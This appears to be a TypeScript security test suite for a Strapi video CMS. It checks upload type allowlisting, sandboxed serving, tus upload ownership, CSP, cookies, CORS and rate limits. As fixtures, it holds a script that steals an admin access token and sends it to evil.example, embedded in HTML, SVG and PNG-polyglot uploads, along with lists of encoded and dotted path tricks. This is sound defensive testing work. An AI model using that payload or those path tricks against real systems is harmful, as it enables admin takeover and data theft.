/**
 * A creator tries to become an admin through the media library, and to reach what is not theirs through the upload
 * roads. Every road into the upload plugin (admin `/upload` and its replace, `/upload/files`, the content API, the
 * upload service itself) and the tus endpoint must decide on the file's bytes: images, video containers and WebVTT
 * captions only, 415 with what is allowed, nothing stored on refusal. Files under /uploads are downloads in a sandbox
 * whatever path trick reaches them, video sources are never served from there, a tus request acts on the upload that
 * was authorised, the admin's CSP, cookie and CORS give a stray script nothing to work with, and upload writes are
 * rate-limited.
 */
import { randomBytes } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import request from 'supertest';
import { adminToken, createCatalogFixture, PASSWORD, type Fixture } from '../integration/setup/catalog-fixture';
import { startTestCms, type TestCms } from '../integration/setup/strapi';
import { createViewer } from '../integration/setup/viewers';

let cms: TestCms;
let fixture: Fixture;
let workDir: string;
let baseUrl = '';
const tokens = { alice: '', bob: '', moderator: '' };
let aliceLogin: request.Response;

const TUS = '/transcoding/tus';
const UPLOAD_LIMIT = 40;
const ALLOWED = /JPEG, PNG, WebP, GIF, AVIF.*MP4.*WebVTT/s;

// a 1×1 PNG, and the same with a page glued after its end (a polyglot): still a PNG, and stored as one
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const STEAL =
  'fetch("/admin/access-token",{method:"POST",credentials:"include"}).then((r)=>r.text()).then((t)=>{new Image().src="https://evil.example/?"+t})';
const HTML = Buffer.from(`<!doctype html><title>x</title><script>${STEAL}</script>`);
const SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${STEAL}</script></svg>`);
const JS = Buffer.from(STEAL);
const VTT = Buffer.from('WEBVTT\n\n00:00.000 --> 00:01.000\nHello\n');
const POLYGLOT = Buffer.concat([PNG, Buffer.from(`<script>${STEAL}</script>`)]);
// the start of an MP4 (ftyp box) and filler: a video container by its bytes
const MP4_HEAD = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]),
  Buffer.from('ftypisom'),
  Buffer.from([0, 0, 2, 0]),
  Buffer.from('isomiso2'),
  randomBytes(2000),
]);

const REFUSED: Array<{ note: string; body: Buffer; filename: string; contentType: string }> = [
  { note: 'an HTML page', body: HTML, filename: 'page.html', contentType: 'text/html' },
  { note: 'an HTML page named and typed as a PNG', body: HTML, filename: 'photo.png', contentType: 'image/png' },
  { note: 'an SVG with a script', body: SVG, filename: 'logo.svg', contentType: 'image/svg+xml' },
  { note: 'an SVG named as a JPEG', body: SVG, filename: 'logo.jpg', contentType: 'image/jpeg' },
  { note: 'a script', body: JS, filename: 'app.js', contentType: 'application/javascript' },
  { note: 'a script named as captions', body: JS, filename: 'captions.vtt', contentType: 'text/vtt' },
];

/** What a refusal must leave behind: the same file rows and the same files on disk. */
/** The media library's folder in this file's own public folder (startTestCms gives each file one). */
const uploadsDir = () => path.join(cms.publicDir, 'uploads');

async function storedState() {
  const rows = await cms.strapi.db.query('plugin::upload.file').count();
  const files = existsSync(uploadsDir()) ? readdirSync(uploadsDir()).sort() : [];
  return { rows, files };
}

function uploadFile(road: string, token: string, file: { body: Buffer; filename: string; contentType: string }) {
  return request(cms.server)
    .post(road)
    .set('Authorization', `Bearer ${token}`)
    .attach('files', file.body, { filename: file.filename, contentType: file.contentType });
}

/** A request sent with exactly this path (no client-side normalisation of `.`, `..` or `//`). */
function raw(
  method: string,
  rawPath: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
  const { port } = new URL(baseUrl);
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port, method, path: rawPath, headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () =>
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }),
      );
    });
    req.on('error', reject);
    req.end();
  });
}

const metadata = (fields: Record<string, string>) =>
  Object.entries(fields)
    .map(([key, value]) => `${key} ${Buffer.from(value).toString('base64')}`)
    .join(',');

async function ticketFor(who: keyof typeof tokens): Promise<string> {
  const response = await request(cms.server)
    .post('/transcoding/upload-tickets')
    .set('Authorization', `Bearer ${tokens[who]}`)
    .expect(200);
  return response.body.ticket as string;
}

async function createTusUpload(ticket: string, length: number, filename = 'clip.mp4'): Promise<string> {
  const created = await request(cms.server)
    .post(TUS)
    .set({
      'Tus-Resumable': '1.0.0',
      'Upload-Length': String(length),
      'Upload-Metadata': metadata({ filename }),
      'Framecast-Upload-Ticket': ticket,
    })
    .expect(201);
  return (created.headers.location as string).split('/').pop()!;
}

beforeAll(async () => {
  workDir = mkdtempSync(path.join(tmpdir(), 'framecast-media-security-'));
  Object.assign(process.env, {
    MEDIA_ROOT: path.join(workDir, 'media'),
    UPLOAD_TMP_DIR: path.join(workDir, 'uploads'),
    TRANSCODE_WORK_DIR: path.join(workDir, 'work'),
    UPLOAD_RATE_LIMIT: String(UPLOAD_LIMIT),
  });
  delete process.env.REDIS_URL;
  delete process.env.STORAGE_DRIVER;
  delete process.env.CORS_ORIGINS;
  cms = await startTestCms();
  fixture = await createCatalogFixture(cms.strapi);
  await new Promise<void>((resolve) => (cms.server as http.Server).listen(0, '127.0.0.1', () => resolve()));
  baseUrl = `http://127.0.0.1:${((cms.server as http.Server).address() as AddressInfo).port}`;
  aliceLogin = await request(cms.server).post('/admin/login').send({ email: 'alice@fixture.test', password: PASSWORD });
  tokens.alice = aliceLogin.body.data.token;
  tokens.bob = await adminToken(cms, 'bob@fixture.test');
  tokens.moderator = await adminToken(cms, 'mod@fixture.test');
}, 180_000);

afterAll(async () => {
  await cms?.stop();
  for (const key of ['MEDIA_ROOT', 'UPLOAD_TMP_DIR', 'TRANSCODE_WORK_DIR', 'UPLOAD_RATE_LIMIT'])
    delete process.env[key];
  rmSync(workDir, { recursive: true, force: true });
});

describe('the media library takes images, videos and WebVTT captions only, decided on the bytes', () => {
  for (const road of ['/upload', '/upload/files']) {
    for (const file of REFUSED) {
      it(`refuses ${file.note} on POST ${road} with 415 naming what is allowed, storing nothing`, async () => {
        const before = await storedState();
        const response = await uploadFile(road, tokens.alice, file);
        expect(response.status).toBe(415);
        expect(response.body.error.message).toMatch(ALLOWED);
        expect(await storedState()).toEqual(before);
      });
    }
  }

  it('stores allowed files under the extension and type of their bytes, whatever name and type were claimed', async () => {
    const cases = [
      { body: PNG, filename: 'avatar.png', contentType: 'image/png', ext: '.png', mime: 'image/png' },
      { body: POLYGLOT, filename: 'evil.html', contentType: 'text/html', ext: '.png', mime: 'image/png' },
      { body: VTT, filename: 'captions.vtt', contentType: 'text/vtt', ext: '.vtt', mime: 'text/vtt' },
      { body: VTT, filename: 'captions.html', contentType: 'text/html', ext: '.vtt', mime: 'text/vtt' },
    ];
    for (const file of cases) {
      const response = await uploadFile('/upload', tokens.alice, file);
      expect(response.status).toBe(201);
      const [stored] = response.body as Array<{ ext: string; mime: string; url: string }>;
      expect({ ext: stored.ext, mime: stored.mime }).toEqual({ ext: file.ext, mime: file.mime });
      expect(stored.url).toMatch(new RegExp(`^/uploads/[^/]+\\${file.ext}$`));
    }
  });

  it('refuses a replacement that is not allowed, or not the same type, and leaves the file as it was', async () => {
    const created = await uploadFile('/upload', tokens.alice, {
      body: PNG,
      filename: 'keep.png',
      contentType: 'image/png',
    }).expect(201);
    const file = created.body[0] as { id: number; url: string };
    const row = async () => cms.strapi.db.query('plugin::upload.file').findOne({ where: { id: file.id } });
    const before = await row();
    const bytes = readFileSync(path.join(cms.publicDir, file.url));
    const attempts = [
      () =>
        uploadFile(`/upload?id=${file.id}`, tokens.alice, {
          body: HTML,
          filename: 'keep.html',
          contentType: 'text/html',
        }),
      () =>
        uploadFile(`/upload?id=${file.id}`, tokens.alice, {
          body: HTML,
          filename: 'keep.png',
          contentType: 'image/png',
        }),
      () =>
        uploadFile(`/upload/files/${file.id}/replace`, tokens.alice, {
          body: SVG,
          filename: 'keep.svg',
          contentType: 'image/svg+xml',
        }),
      // a GIF is allowed, but would be stored under the old name as .png
      () =>
        uploadFile(`/upload/files/${file.id}/replace`, tokens.alice, {
          body: GIF,
          filename: 'keep.gif',
          contentType: 'image/gif',
        }),
    ];
    for (const attempt of attempts) {
      const response = await attempt();
      expect(response.status).toBe(415);
      expect(await row()).toEqual(before);
      expect(readFileSync(path.join(cms.publicDir, file.url))).toEqual(bytes);
    }
    await uploadFile(`/upload?id=${file.id}`, tokens.alice, {
      body: PNG,
      filename: 'again.png',
      contentType: 'image/png',
    }).expect(200);
  });

  it('holds for server code calling the upload service without a user', async () => {
    const dir = mkdtempSync(path.join(workDir, 'service-'));
    const filepath = path.join(dir, 'page.html');
    writeFileSync(filepath, HTML);
    const before = await storedState();
    await expect(
      cms.strapi
        .plugin('upload')
        .service('upload')
        .upload({
          data: {},
          files: { filepath, originalFilename: 'page.html', mimetype: 'text/html', size: HTML.length },
        }),
    ).rejects.toMatchObject({ status: 415 });
    expect(await storedState()).toEqual(before);
  });

  it('offers no GraphQL mutation that stores a file', async () => {
    const response = await request(cms.server)
      .post('/graphql')
      .send({ query: '{ __type(name: "Mutation") { fields { name } } }' });
    expect(response.status).toBe(200);
    const names = (response.body.data.__type.fields as Array<{ name: string }>)
      .map((field) => field.name)
      .filter((name) => /upload/i.test(name) || /^(create|replace)\w*(File|Media)$/.test(name));
    expect(names.sort()).toEqual(['deleteUploadFile', 'updateUploadFile']);
  });

  it('keeps the content API’s /api/upload closed to visitors and viewers', async () => {
    const viewer = await createViewer(cms, 'mallory');
    for (const auth of [{}, viewer.auth]) {
      const response = await request(cms.server)
        .post('/api/upload')
        .set(auth)
        .attach('files', HTML, { filename: 'page.html', contentType: 'text/html' });
      expect([401, 403]).toContain(response.status);
    }
  });
});

describe('files under /uploads are downloads in a sandbox, however the path is written', () => {
  // a page stored before the allowlist existed (or put there by hand): the headers must hold on their own
  const legacy = `legacy-${randomBytes(4).toString('hex')}.html`;
  beforeAll(() => {
    mkdirSync(uploadsDir(), { recursive: true });
    writeFileSync(path.join(uploadsDir(), legacy), HTML);
  });
  afterAll(() => rmSync(path.join(uploadsDir(), legacy), { force: true }));

  const tricks = (name: string) => [
    `/uploads/${name}`,
    `//uploads/${name}`,
    `/%75ploads/${name}`,
    `/uploads/./${name}`,
    `/x/../uploads/${name}`,
    `/uploads//${name}`,
    `/uploads/%${name.charCodeAt(0).toString(16)}${name.slice(1)}`,
  ];

  it('never serves a stored page as a page of the CMS origin', async () => {
    for (const trick of tricks(legacy)) {
      const response = await raw('GET', trick);
      if (response.status >= 400) continue;
      expect({
        trick,
        disposition: response.headers['content-disposition'],
        nosniff: response.headers['x-content-type-options'],
        csp: response.headers['content-security-policy'],
      }).toEqual({ trick, disposition: 'attachment', nosniff: 'nosniff', csp: "default-src 'none'; sandbox" });
    }
  });

  it('serves images with their type, as a download in a sandbox (an <img> still shows it)', async () => {
    const created = await uploadFile('/upload', tokens.alice, {
      body: PNG,
      filename: 'seen.png',
      contentType: 'image/png',
    }).expect(201);
    const response = await raw('GET', created.body[0].url);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('image/png');
    expect(response.headers['content-disposition']).toBe('attachment');
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
  });
});

describe('video sources are never served from /uploads', () => {
  const name = `rough_${randomBytes(4).toString('hex')}.mp4`;
  beforeAll(async () => {
    writeFileSync(path.join(uploadsDir(), name), MP4_HEAD);
    const source = await cms.strapi.db.query('plugin::upload.file').create({
      data: {
        name: 'rough.mp4',
        hash: name.replace('.mp4', ''),
        ext: '.mp4',
        mime: 'video/mp4',
        size: 2,
        url: `/uploads/${name}`,
        provider: 'local',
      },
    });
    const rows = (await cms.strapi.db
      .query('api::video.video')
      .findMany({ select: ['id'], where: { documentId: fixture.videos.alicePrivate.documentId } })) as Array<{
      id: number;
    }>;
    for (const row of rows)
      await cms.strapi.db.query('api::video.video').update({ where: { id: row.id }, data: { source: source.id } });
  });
  afterAll(() => rmSync(path.join(uploadsDir(), name), { force: true }));

  it('answers no byte of a private source through encoded, double-encoded, mixed-case or dotted paths', async () => {
    const paths = [
      `/uploads/${name}`,
      `/uploads/%72${name.slice(1)}`,
      `/uploads/%2572${name.slice(1)}`,
      `/uploads/${name.replace('.mp4', '.MP4')}`,
      `/uploads/${name.replace('.mp4', '%2Emp4')}`,
      `/uploads/${name.replace('.mp4', '%2emP4')}`,
      `/UPLOADS/${name}`,
      `//uploads/${name}`,
      `/%75ploads/${name}`,
      `/%2575ploads/${name}`,
      `/uploads/./${name}`,
      `/x/../uploads/${name}`,
      `/uploads//${name}`,
    ];
    for (const method of ['GET', 'HEAD']) {
      for (const trick of paths) {
        const response = await raw(method, trick, { Range: 'bytes=0-' });
        expect({ method, trick, status: [400, 404].includes(response.status) ? 'refused' : response.status }).toEqual({
          method,
          trick,
          status: 'refused',
        });
      }
    }
  });
});

describe('tus: a request acts on the upload that was authorised', () => {
  it('refuses creator B’s HEAD, PATCH and DELETE on A’s upload through a query string, and A’s upload stays intact', async () => {
    const alice = await ticketFor('alice');
    const bob = await ticketFor('bob');
    const idA = await createTusUpload(alice, 1000);
    const idB = await createTusUpload(bob, 1000);
    const tus = { 'Tus-Resumable': '1.0.0', 'Framecast-Upload-Ticket': bob };
    for (const suffix of [`?x=/${idA}`, `?/${idA}`, `?x=${idA}`, `/?x=/${idA}`]) {
      const target = `${TUS}/${idB}${suffix}`;
      const head = await request(cms.server).head(target).set(tus);
      expect({ target, head: head.status >= 400 }).toEqual({ target, head: true });
      const patch = await request(cms.server)
        .patch(target)
        .set({ ...tus, 'Upload-Offset': '0', 'Content-Type': 'application/offset+octet-stream' })
        .send(Buffer.alloc(100, 0x41));
      expect(patch.status).toBeGreaterThanOrEqual(400);
      const del = await request(cms.server).delete(target).set(tus);
      expect(del.status).toBeGreaterThanOrEqual(400);
    }
    const still = await request(cms.server)
      .head(`${TUS}/${idA}`)
      .set({ 'Tus-Resumable': '1.0.0', 'Framecast-Upload-Ticket': alice });
    expect(still.status).toBe(200);
    expect(still.headers['upload-offset']).toBe('0');
    // B's own upload is untouched by its own tricks too, and still B's to use
    const own = await request(cms.server).head(`${TUS}/${idB}`).set(tus);
    expect(own.status).toBe(200);
    expect(own.headers['upload-offset']).toBe('0');
  });

  it('refuses a finished upload whose bytes are not a video (415), makes no video of it and keeps nothing', async () => {
    const ticket = await ticketFor('alice');
    const videosBefore = await cms.strapi.db.query('api::video.video').count();
    const id = await createTusUpload(ticket, HTML.length, 'holiday.mp4');
    const finished = await request(cms.server)
      .patch(`${TUS}/${id}`)
      .set({
        'Tus-Resumable': '1.0.0',
        'Upload-Offset': '0',
        'Content-Type': 'application/offset+octet-stream',
        'Framecast-Upload-Ticket': ticket,
      })
      .send(HTML);
    expect(finished.status).toBe(415);
    expect(finished.text).toMatch(/MP4, MOV, MKV, WebM, AVI, MPEG-TS/);
    expect(finished.headers['framecast-video']).toBeUndefined();
    expect(await cms.strapi.db.query('api::video.video').count()).toBe(videosBefore);
    expect(existsSync(path.join(workDir, 'uploads', id))).toBe(false);
  });
});

describe('a video that stops being public stops being served from its public URLs at once', () => {
  const VERSION = 'a1b2c3d4e5f6a7b8';
  /** Outputs of a ready video, written to storage as the pipeline would, for each fixture video named. */
  async function readyOutputs(documentId: string) {
    const prefix = `videos/${documentId}/${VERSION}`;
    const dir = path.join(workDir, 'media', ...prefix.split('/'));
    mkdirSync(dir, { recursive: true });
    writeFileSync(path.join(dir, 'master.m3u8'), '#EXTM3U\n#EXT-X-VERSION:3\n');
    writeFileSync(path.join(dir, 'poster-320.jpg'), Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]));
    const assets = {
      prefix,
      checksum: VERSION,
      master: 'master.m3u8',
      renditions: [],
      posters: [{ width: 320, height: 180, webp: 'poster-320.webp', jpeg: 'poster-320.jpg' }],
      storyboard: null,
    };
    await cms.strapi.db
      .query('api::video.video')
      .updateMany({ where: { documentId }, data: { processingStatus: 'ready', playbackAssets: assets } });
    (cms.strapi.plugin('transcoding').service('gateway') as { clearAccessCache(): void }).clearAccessCache();
    return [`/media/${prefix}/master.m3u8`, `/media/${prefix}/poster-320.jpg`];
  }

  const changes: Array<{
    note: string;
    video: () => { documentId: string };
    change: (documentId: string) => Promise<unknown>;
  }> = [
    {
      note: 'made private',
      video: () => fixture.videos.alicePublic,
      change: async (documentId) => {
        await cms.strapi.documents('api::video.video').update({ documentId, data: { visibility: 'private' } as never });
        await cms.strapi.documents('api::video.video').publish({ documentId });
      },
    },
    {
      note: 'unpublished',
      video: () => fixture.videos.aliceUnlisted,
      change: (documentId) => cms.strapi.documents('api::video.video').unpublish({ documentId }),
    },
    {
      note: 'removed by a moderator',
      video: () => fixture.videos.bobPublic,
      change: async (documentId) => {
        await cms.strapi
          .documents('api::video.video')
          .update({ documentId, data: { moderationState: 'removed' } as never });
        await cms.strapi.documents('api::video.video').publish({ documentId });
      },
    },
  ];

  for (const { note, video, change } of changes) {
    it(`answers 404 on the old playlist and poster URLs right after the video is ${note}, and lets shared caches keep them only briefly`, async () => {
      const { documentId } = video();
      const urls = await readyOutputs(documentId);
      for (const url of urls) {
        const open = await request(cms.server).get(url);
        expect(open.status).toBe(200);
        // a CDN may keep a public answer only briefly: it must come back and hear the 404
        const sharedMaxAge = Number(/s-maxage=(\d+)/.exec(String(open.headers['cache-control']))?.[1]);
        expect(sharedMaxAge).toBeLessThanOrEqual(300);
      }
      await change(documentId);
      for (const url of urls)
        expect({ url, status: (await request(cms.server).get(url)).status }).toEqual({ url, status: 404 });
    });
  }
});

describe('what a script on the CMS origin could use', () => {
  it('the admin CSP lets scripts connect to the CMS itself only', async () => {
    const response = await request(cms.server).get('/_health');
    const csp = String(response.headers['content-security-policy']);
    const connect = csp
      .split(';')
      .map((part) => part.trim())
      .find((part) => part.startsWith('connect-src'));
    expect(connect).toBe("connect-src 'self'");
  });

  it('the admin refresh cookie is httpOnly, path /admin and SameSite=Strict', () => {
    const cookie = ([] as string[])
      .concat(aliceLogin.headers['set-cookie'] ?? [])
      .find((entry) => entry.startsWith('strapi_admin_refresh='));
    expect(cookie).toBeDefined();
    expect(cookie).toMatch(/;\s*path=\/admin(;|$)/i);
    expect(cookie).toMatch(/;\s*httponly/i);
    expect(cookie).toMatch(/;\s*samesite=strict/i);
  });

  it('CORS answers the site and the admin, and gives a foreign origin no Access-Control-Allow-Origin', async () => {
    const foreign = await request(cms.server).get('/api/videos').set('Origin', 'https://evil.example');
    expect(foreign.headers['access-control-allow-origin']).toBeUndefined();
    const preflight = await request(cms.server)
      .options('/api/videos')
      .set({ Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST' });
    expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
    const site = await request(cms.server).get('/api/videos').set('Origin', 'http://localhost:4321');
    expect(site.headers['access-control-allow-origin']).toBe('http://localhost:4321');
    expect(site.headers['access-control-allow-credentials']).toBe('true');
  });
});

describe('upload writes are rate-limited per admin user', () => {
  it('answers 429 past the uploads bucket, tickets and tus creations counted together', async () => {
    const statuses: number[] = [];
    for (let index = 0; index < UPLOAD_LIMIT / 2; index += 1) {
      statuses.push(
        (
          await request(cms.server)
            .post('/transcoding/upload-tickets')
            .set('Authorization', `Bearer ${tokens.moderator}`)
        ).status,
      );
    }
    const ticket = (
      await request(cms.server).post('/transcoding/upload-tickets').set('Authorization', `Bearer ${tokens.moderator}`)
    ).body.ticket as string;
    statuses.push(ticket ? 200 : 429);
    for (let index = 0; index < UPLOAD_LIMIT; index += 1) {
      const created = await request(cms.server)
        .post(TUS)
        .set({
          'Tus-Resumable': '1.0.0',
          'Upload-Length': '100',
          'Upload-Metadata': metadata({ filename: 'x.mp4' }),
          'Framecast-Upload-Ticket': ticket,
        });
      statuses.push(created.status);
    }
    expect(statuses.slice(0, UPLOAD_LIMIT).every((status) => status === 200 || status === 201)).toBe(true);
    expect(statuses.slice(UPLOAD_LIMIT)).toEqual(new Array(statuses.length - UPLOAD_LIMIT).fill(429));
    // the media library's upload route counts in the same bucket
    const library = await uploadFile('/upload', tokens.moderator, {
      body: PNG,
      filename: 'late.png',
      contentType: 'image/png',
    });
    expect(library.status).toBe(429);
  });
});
